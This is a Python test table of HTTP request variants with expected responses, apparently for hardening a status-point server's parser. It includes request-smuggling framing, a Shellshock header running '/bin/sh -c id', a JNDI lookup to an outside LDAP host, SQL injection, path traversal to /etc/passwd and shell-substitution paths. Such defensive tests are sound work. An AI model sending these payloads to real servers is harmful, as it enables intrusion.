"""Some three hundred shapes of an HTTP request, each with its answer."""
from shapes import PATH, SILENCE, Table, chunk, chunked, line, request

TABLE = Table()
HEAD_MAX = 32768
BOM = b"\xef\xbb\xbf"


def header(*lines, **kw):
    return lambda m: request(m, *lines, **kw)


def target(text, **kw):
    return lambda m: request(m, start=line(target=text), **kw)


def framed(build, **kw):
    """build(message) gives the chunked body as it stands on the wire."""
    return lambda m: chunked(m, frame=build(m), **kw)


def padded(size):
    """A head of exactly so many bytes."""
    def build(m):
        bare = len(request(m, b"X: ")) - len(m)
        return request(m, b"X: " + b"a" * (size - bare))
    return build


# --- what must be taken ------------------------------------------------------

TABLE.accepts({
    "as clients write it": header(),
    "CCM_POST": header(start=line("CCM_POST")),
    "the path in capitals": target(PATH.upper()),
    "the path in small letters": target(PATH.lower()),
    "a query": target(PATH + "?x=1&y=2"),
    "an empty query": target(PATH + "?"),
    "a query with a second question mark": target(PATH + "?a?b"),
    "a query with %": target(PATH + "?%00%2e%2e"),
    "an absolute target": target("http://fsp.example.com" + PATH),
    "an absolute target with a port": target("http://fsp.example.com:80" + PATH),
    "an absolute target of an IPv6 host": target("http://[2001:db8::1]:8080" + PATH),
    "an absolute target in capitals": target("HTTP://FSP.EXAMPLE.COM" + PATH),
    "an absolute target with a query": target("http://fsp" + PATH + "?q"),
    "an absolute target of another host than Host": target("http://other.example.com" + PATH),
    "an empty Host": header(host=b"Host:"),
    "Host in small letters": header(host=b"host: x"),
    "Host in capitals": header(host=b"HOST: x"),
    "Host without a blank": header(host=b"Host:x"),
    "Host of an address and a port": header(host=b"Host: 192.0.2.1:80"),
    "Host of an IPv6 address": header(host=b"Host: [2001:db8::1]:80"),
    "a tab before a value": header(b"X:\ta"),
    "many blanks before a value": header(b"X:" + b" " * 200 + b"a"),
    "blanks after a value": header(b"X: a   "),
    "an empty value": header(b"X:"),
    "a value of blanks": header(b"X:    "),
    "a value of all that is visible": header(b"X: " + bytes(range(0x20, 0x7F))),
    "a value of Latin-1": header(b"X: " + bytes(range(0x80, 0x100))),
    "a value of UTF-8": header("X: Überprüfung".encode()),
    "a name of all token characters": header(b"!#$%&'*+-.^_`|~09azAZ: a"),
    "a name of one letter": header(b"a: a"),
    "the same header twice": header(b"X: 1", b"X: 2"),
    "two hundred headers": header(*[b"X-%d: 1" % i for i in range(200)]),
    "a header of 20K": header(b"X: " + b"a" * 20 * 1024),
    "a head of 32K less one byte": padded(HEAD_MAX - 1),
    "no Content-Type": header(),
    "Content-Type of XML": header(b"Content-Type: text/xml; charset=utf-16"),
    "Content-Type of rubbish": header(b"Content-Type: ;;;=,"),
    "Content-Type of 4K": header(b"Content-Type: " + b"a" * 4096),
    "two Content-Types": header(b"Content-Type: text/xml", b"Content-Type: text/plain"),
    "multipart that is none": header(b"Content-Type: multipart/mixed; boundary=x"),
    "an empty Content-Encoding of identity": header(b"Content-Encoding: identity"),
    "Content-Encoding in capitals": header(b"Content-Encoding: IDENTITY"),
    "a Content-Length with leading zeros": lambda m: request(m, length=b"Content-Length: %018d" % len(m)),
    "a Content-Length without a blank": lambda m: request(m, length=b"Content-Length:%d" % len(m)),
    "a Content-Length behind a tab": lambda m: request(m, length=b"Content-Length:\t%d" % len(m)),
    "a Content-Length in small letters": lambda m: request(m, length=b"content-length: %d" % len(m)),
    "a header that only begins like Content-Length": header(b"Content-Length-: 5"),
    "a header that only ends like Content-Length": header(b"X-Content-Length: 5"),
    "a header Content_Length": header(b"Content_Length: 5"),
    "a header Transfer_Encoding": header(b"Transfer_Encoding: chunked"),
    "a header X-Transfer-Encoding": header(b"X-Transfer-Encoding: chunked"),
    "TE": header(b"TE: trailers, chunked"),
    "Trailer": header(b"Trailer: Content-Length"),
    "Upgrade": header(b"Upgrade: h2c", b"Connection: Upgrade, HTTP2-Settings", b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"),
    "Upgrade to a websocket": header(b"Upgrade: websocket", b"Connection: Upgrade", b"Sec-WebSocket-Version: 13"),
    "Connection: keep-alive": header(b"Connection: keep-alive"),
    "Connection: Content-Length": header(b"Connection: Content-Length"),
    "Connection: Host": header(b"Connection: Host"),
    "Proxy-Connection": header(b"Proxy-Connection: close"),
    "a Range": header(b"Range: bytes=0-1"),
    "an If-None-Match": header(b"If-None-Match: *"),
    "X-Forwarded-For of a stranger": header(b"X-Forwarded-For: 192.0.2.1"),
    "X-Forwarded-For of rubbish": header(b"X-Forwarded-For: '; DROP TABLE message; --"),
    "X-HTTP-Method-Override": header(b"X-HTTP-Method-Override: DELETE"),
    "X-Original-URL": header(b"X-Original-URL: /admin"),
    "Authorization": header(b"Authorization: Basic " + b"A" * 8000),
    "a Cookie of 8K": header(b"Cookie: a=" + b"b" * 8192),
    "Shellshock": header(b"User-Agent: () { :;}; /bin/sh -c id"),
    "a format string": header(b"User-Agent: %s%s%s%n%n"),
    "a lookup": header(b"User-Agent: ${jndi:ldap://192.0.2.1/a}"),
})

TABLE.accepts({
    "chunked": chunked,
    "chunked in capitals": lambda m: chunked(m, te=b"Transfer-Encoding: CHUNKED"),
    "chunked with a name in small letters": lambda m: chunked(m, te=b"transfer-encoding: chunked"),
    "chunked without a blank": lambda m: chunked(m, te=b"Transfer-Encoding:chunked"),
    "chunked behind a tab": lambda m: chunked(m, te=b"Transfer-Encoding:\tchunked"),
    "chunks of one byte": framed(lambda m: b"".join(chunk(m[i:i + 1]) for i in range(len(m))) + b"0\r\n\r\n"),
    "a chunk size in capitals": framed(lambda m: b"%X\r\n%s\r\n0\r\n\r\n" % (len(m), m)),
    "a chunk size with a leading zero": framed(lambda m: b"0%x\r\n%s\r\n0\r\n\r\n" % (len(m), m)),
    "a chunk extension": framed(lambda m: chunk(m, b";a=b") + b"0\r\n\r\n"),
    "a chunk extension without a value": framed(lambda m: chunk(m, b";a") + b"0\r\n\r\n"),
    "a chunk extension in quotes": framed(lambda m: chunk(m, b';a="b;c"') + b"0\r\n\r\n"),
    "an extension of the last chunk": framed(lambda m: chunk(m) + b"0;a=b\r\n\r\n"),
    "a last chunk of many zeros": framed(lambda m: chunk(m) + b"0000\r\n\r\n"),
    "a trailer": framed(lambda m: chunk(m) + b"0\r\nX-Sum: 1\r\n\r\n"),
    "a trailer that says a length": framed(lambda m: chunk(m) + b"0\r\nContent-Length: 0\r\n\r\n"),
    "a trailer that says chunked": framed(lambda m: chunk(m) + b"0\r\nTransfer-Encoding: chunked\r\n\r\n"),
    "a trailer that says Host": framed(lambda m: chunk(m) + b"0\r\nHost: other\r\n\r\n"),
    "chunked and multipart": lambda m: chunked(m, b"Content-Type: multipart/mixed; boundary=x"),
})

for name, data in {
    "HTTP/1.0": header(start=line(version="HTTP/1.0")),
    "HTTP/1.0 without Host": header(start=line(version="HTTP/1.0"), host=None),
    "Connection: close": header(b"Connection: close"),
    "Connection: CLOSE": header(b"Connection: CLOSE"),
    "Connection: close among others": header(b"Connection: foo, close"),
}.items():
    TABLE.add(name, data, 200, True)

# --- what stands in the place of a message: a sound request, refused -----------

TABLE.refuses(400, {
    "an empty body": request(b""),
    "a body of one byte": request(b"x"),
    "a body that is a request": request(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
    "a body of chunk framing": request(b"5\r\nhello\r\n0\r\n\r\n"),
    "a body of NULs": request(b"\0" * 4096),
    "no chunk but the last": chunked(b"", frame=b"0\r\n\r\n"),
    "chunks that are a request": chunked(b"POST / HTTP/1.1\r\nHost: x\r\n\r\n"),
    "a multipart without its end": request(b"--x\r\n\r\nhello", b"Content-Type: multipart/mixed; boundary=x"),
    "a multipart without a boundary": request(b"--x\r\n\r\nhello\r\n--x--", b"Content-Type: multipart/mixed"),
    "a multipart of seventeen parts": request(b"--x\r\n\r\n<a/>\r\n" * 17 + b"--x--", b"Content-Type: multipart/mixed; boundary=x"),
}, closes=False)

TABLE.refuses(415, {
    "gzip": header(b"Content-Encoding: gzip"),
    "deflate": header(b"Content-Encoding: deflate"),
    "br": header(b"Content-Encoding: br"),
    "identity and gzip": header(b"Content-Encoding: identity, gzip"),
    "identity, then gzip in a second header": header(b"Content-Encoding: identity", b"Content-Encoding: gzip"),
    "a Content-Encoding of no name": header(b"Content-Encoding: ,"),
    "an empty Content-Encoding": header(b"Content-Encoding:"),
}, closes=False)

TABLE.refuses(417, {
    "Expect of something else": header(b"Expect: the unexpected"),
    "an empty Expect": header(b"Expect:"),
    "Expect with a parameter": header(b"Expect: 100-continue; x=1"),
}, closes=False)

TABLE.refuses(405, {
    f"the method {m}": (lambda name: lambda body: request(body, start=line(name)))(m)
    for m in ("GET", "PUT", "DELETE", "PATCH", "TRACE", "OPTIONS", "PROPFIND", "MKCOL", "MOVE", "LOCK", "SEARCH", "BITS_POST",
              "post", "Post", "POSTX", "POS", "CCM_GET", "ccm_post", "!#$%&'*+-.^_`|~", "P" * 1000)
}, closes=False)
TABLE.refuses(405, {
    "GET without a body": request(b"", start=line("GET"), length=False),
    "OPTIONS without a body": request(b"", start=line("OPTIONS"), length=False),
    "TRACE without a body": request(b"", start=line("TRACE"), length=False),
}, closes=False)

# --- another path: refused, and the connection ended --------------------------

TABLE.refuses(404, {
    f"the target {t[:40]!r}": target(t) for t in (
        "/", "*", "//", "/SMS_FSP", "/SMS_FSP/", PATH + "/", "//SMS_FSP/.sms_fsp", "/SMS_FSP//.sms_fsp",
        "/./SMS_FSP/.sms_fsp", "/SMS_FSP/./.sms_fsp", "/x/../SMS_FSP/.sms_fsp", "/SMS_FSP/../SMS_FSP/.sms_fsp",
        "/SMS_FSP/..%2f.sms_fsp", "/SMS_FSP%2f.sms_fsp", "/%53MS_FSP/.sms_fsp", "/SMS_FSP/%2esms_fsp",
        PATH + "%00", PATH + "%20", PATH + "%3f", PATH + ";a=b", PATH + "#a", PATH + "&a", PATH + "\\",
        "\\SMS_FSP\\.sms_fsp", "/SMS_FSP\\.sms_fsp", "/../../../../etc/passwd", "/SMS_FSP/.sms_fsp.", "/SMS_FSP/sms_fsp",
        "/SMS_FSP/.sms_fsp\xff", "/SMS_FSP/.sms_fs\xf0", "/SMS_MP/.sms_aut?MPLIST", "/metrics", "/healthz", "/api/v1/status",
        "SMS_FSP/.sms_fsp", "fsp.example.com:80", "?" + PATH, "http:" + PATH, "http:/" + PATH, "http://" + PATH,
        "http://?" + PATH, "http://x", "http://x/", "http://user@x" + PATH, "http://user:pass@x" + PATH,
        "http://x/y@" + PATH, "https://x" + PATH, "ftp://x" + PATH, "file://" + PATH, "http://x//" + PATH,
        "http://x" + PATH + "/", "/" + "a" * 20000, "/%n%n%n%n", "/<script>", "/$(id)", "/`id`", "/;id", "/|id",
    )
})

# --- doubtful framing ---------------------------------------------------------

TABLE.refuses(400, {
    "CL and TE": lambda m: request(m, b"Transfer-Encoding: chunked"),
    "TE and CL": lambda m: chunked(m, b"Content-Length: 4"),
    "TE and CL of nothing": lambda m: chunked(m, b"Content-Length: 0"),
    "CL and an unknown TE": lambda m: request(m, b"Transfer-Encoding: x"),
    "two equal CLs": lambda m: request(m, b"Content-Length: %d" % len(m)),
    "two CLs": lambda m: request(m, b"Content-Length: 0"),
    "two CLs, the second in small letters": lambda m: request(m, b"content-length: 0"),
    "three CLs": lambda m: request(m, b"Content-Length: 1", b"Content-Length: 2"),
    "TE on HTTP/1.0": lambda m: chunked(m, start=line(version="HTTP/1.0")),
    "no Host": header(host=None),
    "two Hosts": header(b"Host: y"),
    "two equal Hosts": header(b"Host: fsp.example.com"),
    "two Hosts, the second in small letters": header(b"host: y"),
    "two Hosts on HTTP/1.0": header(b"Host: y", start=line(version="HTTP/1.0")),
    "an absolute target without Host": target("http://fsp" + PATH, host=None),
    "an absolute target with two Hosts": lambda m: request(m, b"Host: y", start=line(target="http://fsp" + PATH)),
})

TABLE.refuses(400, {
    f"the Content-Length {v!r}": (lambda v: lambda m: request(m, length=b"Content-Length: " + v % {b"n": len(m)}))(v) for v in (
        b"", b"-1", b"+%(n)d", b"-%(n)d", b"0x%(n)x", b"0X%(n)X", b"%(n)d.0", b"%(n)de0", b"1e3", b"%(n)d, %(n)d", b"%(n)d,%(n)d",
        b"%(n)d %(n)d", b"%(n)d;", b"%(n)d x", b"%(n)d\t", b"%(n)d ", b"many", b"\"%(n)d\"", b"'%(n)d'", b"(%(n)d)", b"%(n)d\xa0",
        b"\xa0%(n)d", b"\xef\xbc\x91", b"9999999999999999999", b"18446744073709551615", b"18446744073709551616",
        b"18446744073709552000", b"340282366920938463463374607431768211456", b"1" * 100, b"0" * 19 + b"%(n)d", b"NaN", b"null",
        b"0b11", b"1_000", b"1,000", b"\x0b%(n)d", b"%(n)d\x0c", b"%(n)d\x00")
})

TABLE.refuses(400, {
    f"the Transfer-Encoding {v!r}": (lambda v: lambda m: chunked(m, te=b"Transfer-Encoding: " + v))(v) for v in (
        b"", b"x", b"xchunked", b"chunkedx", b"chunke", b"chunked,", b",chunked", b", chunked", b"chunked, chunked", b"identity",
        b"identity, chunked", b"chunked, identity", b"gzip", b"gzip, chunked", b"chunked, gzip", b"deflate", b"compress",
        b"chunked;", b"chunked; q=1", b"chunked;q=0.5", b"\"chunked\"", b"'chunked'", b"chunked\t", b"chunked ", b"chunked\x0b",
        b"\x0bchunked", b"\x0cchunked", b"\x00chunked", b"chunked\x00", b"\xa0chunked", b"chunk ed", b"c\xc4\xa7unked",
        b"chunked#", b"chunked\xff", b"[chunked]")
})
TABLE.refuses(400, {
    "TE twice": lambda m: chunked(m, b"Transfer-Encoding: chunked"),
    "TE twice, first identity": lambda m: chunked(m, b"Transfer-Encoding: identity"),
    "TE twice, first unknown": lambda m: chunked(m, b"Transfer-Encoding: cow"),
    "TE twice, the second in small letters": lambda m: chunked(m, te=b"Transfer-Encoding: chunked\r\ntransfer-encoding: x"),
    "TE and a blank before its colon": lambda m: chunked(m, te=b"Transfer-Encoding : chunked"),
    "TE and a tab before its colon": lambda m: chunked(m, te=b"Transfer-Encoding\t: chunked"),
    "TE and NUL before its colon": lambda m: chunked(m, te=b"Transfer-Encoding\0: chunked"),
    "TE behind a blank": lambda m: chunked(m, te=b" Transfer-Encoding: chunked"),
    "TE folded": lambda m: chunked(m, te=b"Transfer-Encoding:\r\n chunked"),
    "TE folded by a tab": lambda m: chunked(m, te=b"Transfer-Encoding:\r\n\tchunked"),
    "TE behind a bare LF": lambda m: request(m, b"X: a\nTransfer-Encoding: chunked"),
    "TE behind a bare CR": lambda m: request(m, b"X: a\rTransfer-Encoding: chunked"),
    "TE before a bare CR": lambda m: chunked(m, te=b"Transfer-Encoding: chunked\rX: y"),
    "CL and a blank before its colon": lambda m: request(m, length=b"Content-Length : %d" % len(m)),
    "CL and a tab before its colon": lambda m: request(m, length=b"Content-Length\t: %d" % len(m)),
    "CL folded": lambda m: request(m, length=b"Content-Length:\r\n %d" % len(m)),
    "CL behind a bare CR": lambda m: request(m, b"X: a\rContent-Length: 0"),
    "CL behind a bare LF": lambda m: request(m, b"X: a\nContent-Length: 0"),
    "CL behind a byte order mark": lambda m: request(m, BOM + b"Content-Length: 0"),
    "CL behind NUL": lambda m: request(m, b"\0Content-Length: 0"),
})

# --- the head's own shape -----------------------------------------------------

TABLE.refuses(400, {
    f"the header name {n!r}": header(n + b": a") for n in (
        b"", b" ", b"X Y", b"X\tY", b"X ", b"X\t", b"(X)", b"X,Y", b"X/Y", b"X;Y", b"X=Y", b"X@Y", b"[X]", b"{X}", b"X\\Y", b'"X"',
        b"<X>", b"X?Y", b"X\x01Y", b"X\x7fY", b"X\xffY", b"\xc3\xbc", b"X\0", b"\0X", b"X\x0b", b"X\x1b[2J")
})
TABLE.refuses(400, {
    f"the byte 0x{b:02x} in a value": header(b"X: a" + bytes([b]) + b"b")
    for b in list(range(0x00, 0x09)) + [0x0A, 0x0B, 0x0C, 0x0D] + list(range(0x0E, 0x20)) + [0x7F]
})
TABLE.refuses(400, {
    "a line without a colon": header(b"nonsense"),
    "a folded line": header(b"X: 1", b" 2"),
    "a line folded by a tab": header(b"X: 1", b"\t2"),
    "a folded empty line": header(b"X: 1", b" "),
    "a folded first line": lambda m: line() + b"\r\n Host: x\r\nContent-Length: %d\r\n\r\n" % len(m) + m,
    "a blank line that is not empty": lambda m: request(m, b" "),
    "bare LFs all over": lambda m: request(m).replace(b"\r\n", b"\n"),
    "a bare LF after the request line": lambda m: request(m).replace(b"\r\n", b"\n", 1),
    "a bare LF after Host": header(host=b"Host: x\nX: y"),
    "a bare LF for the empty line": lambda m: request(m, length=b"Content-Length: %d\r\n\nX: y" % len(m)),
    "NUL, a byte and LF, where CR LF would be as long": lambda m: (
        line() + b"\r\nContent-Length: %d\r\nHost: x\0;\n\n" % len(m) + m),
    "CR CR LF": header(b"X: 1\r"),
    "LF CR": header(b"X: 1\n\rY: 2"),
    "CR LF CR": header(b"X: 1\r\n\rY: 2"),
    "empty lines before the request": lambda m: b"\r\n\r\n" + request(m),
    "a bare LF before the request": lambda m: b"\n" + request(m),
    "a blank before the request": lambda m: b" " + request(m),
    "a byte order mark before the request": lambda m: BOM + request(m),
    "NUL before the request": lambda m: b"\0" + request(m),
    "a PROXY line": lambda m: b"PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n" + request(m),
    "a PROXY header, version 2": lambda m: b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c" + b"\x01" * 12 + request(m),
    "a TLS greeting": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(256)),
    "an SSH greeting": b"SSH-2.0-OpenSSH_9.2\r\n",
    "an SMB greeting": b"\0\0\0\x2f\xffSMBr\0\0\0\0\x18\x01\x28" + b"\0" * 32 + b"\r\n",
    "HTTP/2's preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "every byte there is": bytes(range(256)) + b"\r\n\r\n",
    "every byte backwards": bytes(range(255, -1, -1)) + b"\r\n\r\n",
    "XML alone": b"<?xml version='1.0'?>\r\n<Report/>\r\n\r\n",
    "an RTSP request": b"DESCRIBE rtsp://x/y RTSP/1.0\r\nCSeq: 1\r\n\r\n",
    "a SIP request": b"INVITE sip:a@b SIP/2.0\r\nTo: a\r\n\r\n",
})
TABLE.refuses(400, {
    "a blank in the query": header(start=line(target=PATH + "?a b")),
    "a request line in the query": header(start=line(target=PATH + "?x HTTP/1.1POST " + PATH)),
    "a tab in the query": header(start=line(target=PATH + "?a\tb")),
    **{f"the request line {s[:50]!r}": header(start=s) for s in (
        b"POST", b"POST ", b"POST  ", b" POST " + PATH.encode() + b" HTTP/1.1", b"POST  " + PATH.encode() + b" HTTP/1.1",
        line() + b" ", line() + b" x", b"POST " + PATH.encode() + b"  HTTP/1.1", b"POST\t" + PATH.encode() + b"\tHTTP/1.1",
        b"POST\x0b" + PATH.encode() + b" HTTP/1.1", b"POST " + PATH.encode(), b"POST " + PATH.encode() + b" ",
        b"POST " + PATH.encode() + b"\0 HTTP/1.1", b"POST " + PATH.encode() + b"?\0 HTTP/1.1", b"PO\0ST " + PATH.encode() + b" HTTP/1.1",
        b"P(ST " + PATH.encode() + b" HTTP/1.1", b"P\xd6ST " + PATH.encode() + b" HTTP/1.1", b"P/ST " + PATH.encode() + b" HTTP/1.1",
        b"POST: " + PATH.encode() + b" HTTP/1.1", b"POST " + PATH.encode() + b"\x7f HTTP/1.1", b"POST /a b HTTP/1.1",
        b"POST " + PATH.encode() + b"\rX HTTP/1.1", b"HTTP/1.1 200 OK")},
})
TABLE.refuses(400, {
    f"the version {v!r}": header(start=line(version=v)) for v in (
        "HTTP/0.9", "HTTP/1.2", "HTTP/1.10", "HTTP/1.01", "HTTP/01.1", "HTTP/1.", "HTTP/.1", "HTTP/1", "HTTP/11", "HTTP/2", "HTTP/2.0",
        "HTTP/3.0", "HTTP/9.9", "HTTP/1.1.1", "HTTP/1,1", "HTTP/1.1a", "HTTP/+1.1", "HTTP/-1.1", "HTTP 1.1", "HTTP\\1.1", "HTTP1.1",
        "http/1.1", "Http/1.1", "HTTPS/1.1", "ICY/1.1", "XTTP/1.1", "1.1", "HTTP/1.1\x00", "HTTP/1.1\x0b", "HTTP/x.y")
})
TABLE.refuses(411, {
    "neither CL nor TE": request(b"", length=False),
    "neither CL nor TE, and a body": lambda m: request(m, length=False),
    "neither on HTTP/1.0": lambda m: request(m, length=False, start=line(version="HTTP/1.0")),
    "neither, and Connection: close": lambda m: request(m, b"Connection: close", length=False),
    "neither, and Expect": lambda m: request(b"", b"Expect: 100-continue", length=False),
})
TABLE.refuses(431, {
    "a head of 32K and a byte": padded(HEAD_MAX + 1),
    "a head of 100K": padded(100 * 1024),
    "a header of 33K": header(b"X: " + b"a" * 33 * 1024),
    "a header name of 33K": header(b"X" * 33 * 1024 + b": a"),
    "a thousand headers": header(*[b"X-%d: 1" % i for i in range(1000)]),
    "three hundred headers of one byte": header(*[b"a:"] * 300),
    "a target of 40K": target("/" + "a" * 40 * 1024),
    "a query of 40K": target(PATH + "?" + "a" * 40 * 1024),
    "a method of 40K": header(start=line("P" * 40 * 1024)),
})
TABLE.refuses(413, {
    "a CL of one byte too much": lambda m: request(m, length=b"Content-Length: 65537"),
    "a CL of 1G": lambda m: request(m, length=b"Content-Length: 1073741824"),
    "a CL of eighteen nines": lambda m: request(m, length=b"Content-Length: 999999999999999999"),
    "a CL of 1G, expected": lambda m: request(b"", b"Expect: 100-continue", length=b"Content-Length: 1073741824"),
})

TABLE.refuses(431, {"a Cookie of 1,600 pairs": header(b"Cookie: " + b"a=b; " * 1600)}, ours=False)

# --- around the data of chunks: no more than chunks need ------------------------

TABLE.accepts({
    "a chunk extension of 4,000 bytes": framed(lambda m: chunk(m, b";a=" + b"b" * 4000) + b"0\r\n\r\n"),
    "a trailer of 4,000 bytes": framed(lambda m: chunk(m) + b"0\r\nX: " + b"a" * 4000 + b"\r\n\r\n"),
})
TABLE.refuses(400, {
    "a chunk extension that does not end": framed(lambda m: b"%x;" % len(m) + b"a" * 20000),
    "a chunk extension that does not end, behind data": framed(lambda m: chunk(m) + b"1;" + b"a" * 20000),
    "a chunk extension that does not end, behind many chunks": framed(
        lambda m: b"".join(chunk(m[i:i + 1]) for i in range(len(m))) + b"1;" + b"a" * 25000),
    "a last chunk whose extension does not end": framed(lambda m: chunk(m) + b"0;" + b"a" * 20000),
    "a trailer of 20,000 bytes that does not end": framed(lambda m: chunk(m) + b"0\r\nX: " + b"a" * 20000),
    "trailers of 20,000 bytes that do not end": framed(lambda m: chunk(m) + b"0\r\n" + (b"X: " + b"a" * 95 + b"\r\n") * 200),
}, alone=True)

# --- within the chunks: refused by libmicrohttpd, in its words ------------------

TABLE.refuses({400, 413, None}, {
    f"the chunk size {s!r}": (lambda s: framed(lambda m: s + b"\r\n" + m + b"\r\n0\r\n\r\n"))(s) for s in (
        b"", b" ", b"zz", b"g", b"-1", b"+5", b"0x5", b"5g", b".5", b"5,5", b"\xff", b"\0", b"5\0", b";a", b"x5",
        b"fffffffffffffffff", b"10000000000000001", b"1" * 40, b"ffffffffffffffff", b"7fffffffffffffff", b"80000000", b"ffffffff")
}, ours=False)
TABLE.refuses({400, 413, None}, {
    "no line end after a chunk": framed(lambda m: b"%x\r\n%s0\r\n\r\n" % (len(m), m)),
    "a chunk longer than told": framed(lambda m: b"%x\r\n%sx\r\n0\r\n\r\n" % (len(m), m)),
    "rubbish after a chunk": framed(lambda m: b"%x\r\n%sxx\r\n0\r\n\r\n" % (len(m), m)),
    "two chunks without a line end": framed(lambda m: b"5\r\n%s%x\r\n%s\r\n0\r\n\r\n" % (m[:5], len(m) - 5, m[5:])),
    "a negative chunk after a good one": framed(lambda m: chunk(m) + b"-5\r\nhello\r\n0\r\n\r\n"),
    "a body of 65537 bytes in chunks": framed(lambda m: chunk(b" " * 65000) + chunk(b" " * 537) + b"0\r\n\r\n"),
    "a chunk of 1G": framed(lambda m: b"40000000\r\n" + b" " * 70000),
}, ours=False)

# --- not complete: nothing is done, and the clock ends it -----------------------

TABLE.refuses(SILENCE, {
    "nothing": b"",
    "one letter": b"P",
    "half a request line": b"POST /SMS_F",
    "a head without its end": request(b"", length=b"Content-Length: 5")[:-2],
    "a head but for one byte": request(b"", length=b"Content-Length: 5")[:-1],
    "a CR": b"POST / HTTP/1.1\r",
    "a head without its body": request(b"", length=b"Content-Length: 5"),
    "half of a body": request(b"<Rep", length=b"Content-Length: 500"),
    "a body but for one byte": lambda m: request(m)[:-1],
    "half of a chunk size": chunked(b"", frame=b"5"),
    "a chunk without its line end": chunked(b"", frame=b"5\r\nhello"),
    "chunks without the last": lambda m: chunked(m, frame=chunk(m)),
    "a last chunk without its empty line": lambda m: chunked(m, frame=chunk(m) + b"0\r\n"),
    "a trailer without its end": lambda m: chunked(m, frame=chunk(m) + b"0\r\nX: 1\r\n"),
    "a trailer that never ends": lambda m: chunked(m, frame=chunk(m) + b"0\r\n" + b"X: aaaaaaa\r\n" * 300),
}, alone=True)
